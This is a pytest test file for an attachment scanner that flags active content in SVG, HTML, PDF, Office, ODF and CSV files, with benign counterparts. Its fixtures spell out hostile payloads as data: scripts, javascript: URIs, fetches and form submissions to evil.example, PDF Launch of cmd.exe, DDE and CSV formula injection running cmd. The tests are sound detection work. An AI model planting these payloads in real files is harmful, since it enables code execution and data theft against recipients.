"""What runs, calculates or is fetched when an attachment is opened is found, and nothing else is (I.2, IV.2)."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest

from plugins.read.active_content import FAMILIES, active_content
from plugins.read.attachments import read_attachments
from tests.read.live_pdf import packed, pdf_with

JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
EXTERNAL = (
    '<Relationships><Relationship Id="a" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/>'
    "</Relationships>"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


def archive(**parts):
    """Return a zip file; ``__`` in a name is ``/``, the last ``_`` a full stop."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in {"word__document_xml": "<w:t>x</w:t>", **parts}.items():
            made.writestr(".".join(name.replace("__", "/").rsplit("_", 1)), content)
    return out.getvalue()


def found(name, data):
    data = data if isinstance(data, bytes) else data.encode()
    return active_content(name, data)


def svg(inside):
    return SVG.format(inside)


LIVE = [
    ("a.svg", svg("<script>alert(1)</script>"), "an element script"),
    ("script in other letters.SVG", svg("<a><ScRiPt/></a>"), "an element ScRiPt"),
    ("handler.svg", svg('<rect onload="x()"/>'), "an attribute onload"),
    ("on the root.svg", SVG.replace("<svg ", '<svg onload="x()" ').format(""), "an attribute onload"),
    ("page in it.svg", svg("<foreignObject><p>x</p></foreignObject>"), "an element foreignObject"),
    ("javascript.svg", svg('<a xlink:href="java&#x9;script:x()">x</a>'), "an address in href"),
    ("data.svg", svg('<a href="data:text/html,x">x</a>'), "an address in href"),
    ("use.svg", svg('<use xlink:href="https://evil.example/a.svg#b"/>'), "an address in href"),
    ("image.svg", svg('<image href="//evil.example/a.png"/>'), "an address in href"),
    ("import.svg", svg("<style>@im\\70ort 'https://evil.example';</style>"), "a style"),
    ("url.svg", svg('<rect style="fill:u/**/rl(https://evil.example)"/>'), "a style"),
    ("fill.svg", svg('<rect fill="url(https://evil.example#a)"/>'), "a style"),
    ("set.svg", svg('<a><set attributeName="href" to="javascript:x()"/></a>'), "an element set"),
    ("entity.svg", '<!DOCTYPE svg [<!ENTITY x "y">]>' + svg("&x;"), "a document type"),
    ("sheet.svg", '<?xml-stylesheet href="https://evil.example/a.css"?>' + svg(""), "a style sheet"),
    ("prefix.svg", '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script/></x:svg>', "an element script"),
    ("page.svg", svg('<p xmlns="http://www.w3.org/1999/xhtml"><iframe src="x"/></p>'), "an element iframe"),
    ("half.svg", svg("<g>"), "markup that breaks off"),
    ("encoding.svg", '<?xml version="1.0" encoding="iso-2022-jp"?>' + svg(""), "the encoding"),
    ("utf-16.svg", svg("<script/>").encode("utf-16"), "an element script"),
    ("page.xml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>x</script></html>', "an element script"),
    ("map.kml", '<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink/></kml>', "an element NetworkLink"),
    ("page.html", "<p>x</p><script>x</script>", "an element script"),
    ("page.htm", '<p onclick="x()">x</p>', "an attribute onclick"),
    ("fetched.html", '<img src="https://evil.example/a.png">', "an address in src"),
    ("sent.html", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "an element meta"),
    ("foreign.html", "<svg><style><img></style></svg>", "an element svg"),
    ("condition.html", "<!--[if IE]><script></script><![endif]-->", "a comment"),
    ("opened.pdf", pdf_with(f"/OpenAction {JS}"), "a script"),
    ("elsewhere.pdf", pdf_with("/OpenAction << /S /URI /URI (https://evil.example) >>"), "something done when"),
    ("indirect.pdf", pdf_with("/OpenAction 4 0 R", JS), "a script"),
    ("in parts.pdf", packed(pdf_with("/OpenAction << /S 4 0 R /JS 5 0 R >>", "/JavaScript", "(x)")), "a script"),
    ("escaped.pdf", pdf_with("/OpenAction << /S /J#61va#53cript /J#53 (x) >>"), "a script"),
    ("names.pdf", pdf_with(f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"), "a script"),
    ("next.pdf", pdf_with(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {JS} >>"), "a script"),
    ("packed.pdf", packed(pdf_with("/OpenAction 4 0 R", JS)), "a script"),
    ("launch.pdf", pdf_with("", page="/Annots [<< /A << /S /Launch /F (cmd.exe) >> >>]"), "a program"),
    ("packed launch.pdf", packed(pdf_with("", page="/Annots [<< /A << /S /Launch /F (x) >> >>]")), "a program"),
    ("embedded.pdf", pdf_with("/Names << /EmbeddedFiles << /Names [] >> >>"), "another file"),
    ("page.pdf", pdf_with("", page="/AA << /O << /S /Named /N /Print >> >>"), "something done without a click"),
    ("film.pdf", pdf_with("", page="/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]"), "a film"),
    ("form.pdf", pdf_with("/AcroForm << /XFA [] >>"), "a form made of XML"),
    ("sent.pdf", pdf_with("", "<< /S /SubmitForm /F (https://evil.example) >>"), "a form that is sent"),
    ("file.pdf", pdf_with("", "<< /S /URI /URI (file:///etc/passwd) >>"), "a link that is neither"),
    ("lost and escaped.pdf", pdf_with("", after=b"9 0 obj\n<< /S /#4aavaScript >>\nendobj\n"), "a script"),
    ("lost.pdf", pdf_with("", after=b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"), "a script"),
    ("macro.docx", archive(word__vbaProject_bin="x"), "macros, in word/vbaProject.bin"),
    (
        "macro.xlsx",
        archive(**{"[Content_Types]_xml": "<Override ContentType='x.sheet.macroEnabled.main+xml'/>"}),
        "macros",
    ),
    ("sheet.xlsx", archive(xl__macrosheets__sheet1_xml="<x/>"), "a sheet of macros"),
    (
        "template.docx",
        archive(word___rels__settings_xml_rels=EXTERNAL.format("attachedTemplate", "https://evil.example/a.dotm")),
        "a reference to another place (attachedTemplate)",
    ),
    (
        "picture.docx",
        archive(word___rels__document_xml_rels=EXTERNAL.format("image", "https://evil.example/a.png")),
        "a reference to another place (image)",
    ),
    (
        "link.docx",
        archive(word___rels__document_xml_rels=EXTERNAL.format("hyperlink", "file://server/share")),
        "a link that is neither",
    ),
    ("book.xlsx", archive(xl__externalLinks__externalLink1_xml="<x/>"), "a link to another workbook"),
    ("dde.xlsx", archive(xl__externalLink_xml="<ddeLink ddeService='cmd'/>"), "a link to another program"),
    (
        "field.docx",
        archive(word__document_xml="<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"),
        "a field that runs",
    ),
    ("simple.docx", archive(word__document_xml='<w:fldSimple w:instr=" INCLUDEPICTURE x "/>'), "a field that runs"),
    ("formula.xlsx", archive(xl__sheet_xml="<f>cmd|'/c calc'!A1</f>"), "a formula that runs"),
    ("web.xlsx", archive(xl__sheet_xml='<f>WEBSERVICE("https://evil.example")</f>'), "a formula that runs"),
    ("data.xlsx", archive(xl__connections_xml="<connections/>"), "a connection"),
    ("script.odt", archive(content_xml='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "a script"),
    ("basic.ods", archive(Basic__Standard__Module1_xml="<x/>"), "macros"),
    (
        "picture.odt",
        archive(content_xml='<draw:image xlink:href="https://evil.example/a.png"/>'),
        "a reference to another place (image)",
    ),
    ("file.ofd", archive(Doc_0__Attachs__a_xml="<x/>"), "another file"),
    ("macro.doc", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT\0".encode("utf-16-le"), "macros"),
    (
        "formula.csv",
        "name,value\na,\"=cmd|' /c calc'!A1\"\n",
        "a cell that begins with =, as a formula does, in line 2",
    ),
    ("plus.csv", "a,b\n1,+SUM(A1)\n", "a cell that begins with +"),
    ("minus.csv", "a,b\n1,-cmd|x\n", "a cell that begins with -"),
    ("at.csv", "a,b\n@SUM(A1),1\n", "a cell that begins with @"),
    ("wide.csv", "a,b\n＝SUM(A1),1\n", "a cell that begins with ＝"),
    ("tab.tsv", "a\tb\n1\t\t=1\n", "a cell that begins with ="),
    ("other separator.csv", "a,b\n1,x;=cmd()\n", "a cell that begins with ="),
]


@pytest.mark.parametrize(("name", "data", "what"), [pytest.param(*case, id=case[0]) for case in LIVE])
def test_what_does_something_is_found(name, data, what):
    assert any(said.startswith(what) for said in found(name, data)), found(name, data)


STILL = [
    (
        "a.svg",
        svg('<defs><g id="b"/></defs><use href="#b"/><a href="https://health.example">x</a><rect fill="url(#b)"/>'),
    ),
    ("picture.svg", svg('<image href="data:image/png;base64,AAAA"/><style>rect { fill: red }</style>')),
    ("type.svg", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">' + svg("<title>x</title>")),
    (
        "ours.xml",
        '<?xml version="1.0" encoding="GB18030"?><数据><object onset="2026">x</object></数据>'.encode("gb18030"),
    ),
    ("of its own.xml", '<wells xmlns="https://health.example/wells"><set on="2026-11-29" src="lab"/></wells>'),
    ("page.html", '<meta charset="utf-8"><p style="color:red">x <a href="https://health.example">y</a></p>'),
    ("a.pdf", pdf_with("/OpenAction [3 0 R /XYZ 0 0 null]")),
    ("goto.pdf", pdf_with("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    ("link.pdf", pdf_with("", page="/Annots [<< /A << /S /URI /URI (https://health.example) >> >>]")),
    ("font.pdf", pdf_with("", page="/Resources << /Font << /JS 4 0 R /AA 4 0 R >> >>")),
    ("link.docx", archive(word___rels__document_xml_rels=EXTERNAL.format("hyperlink", "https://health.example"))),
    ("field.docx", archive(word__document_xml="<w:instrText>PAGE</w:instrText><w:instrText> DATE </w:instrText>")),
    ("formula.xlsx", archive(xl__sheet_xml="<f>SUM(A1:B2)</f><f>IF('Sheet 2'!A1,1,2)</f>")),
    (
        "frames.odt",
        archive(
            content_xml='<draw:frame draw:name="x"><draw:image xlink:href="Pictures/a.png"/></draw:frame><text:a xlink:href="https://health.example"/>'
        ),
    ),
    ("table.csv", 'a,b,c\n-5,+3.2%,"mail: a@health.example"\n-,+86 10 5550 1200,x=1\n'),
    ("list.txt", "=x\n<script>\n"),
    ("data.json", '{"a": "=1", "b": "<script>"}'),
]


@pytest.mark.parametrize(("name", "data"), [pytest.param(*case, id=case[0]) for case in STILL])
def test_what_only_shows_passes(name, data):
    assert found(name, data) == ()


def test_a_file_of_the_folder_looks_at_each_family():
    from importlib import import_module

    for family in FAMILIES:
        assert import_module(f"plugins.read.active.{family}").active


def test_the_finding_names_the_attachment_and_what_was_found(tmp_path):
    folder = tmp_path / "content/work-updates/a"
    folder.mkdir(parents=True)
    (folder / "map.svg").write_text(svg("\n<script/>"))
    assert list(map(str, read_attachments(tmp_path, "content/work-updates/a")[1].findings())) == [
        "content/work-updates/a/map.svg: REA033 nothing_active: got an element script in line 2, expected a file that "
        "only shows what is in it: save the text, the values or the picture alone, or make a PDF of it"
    ]
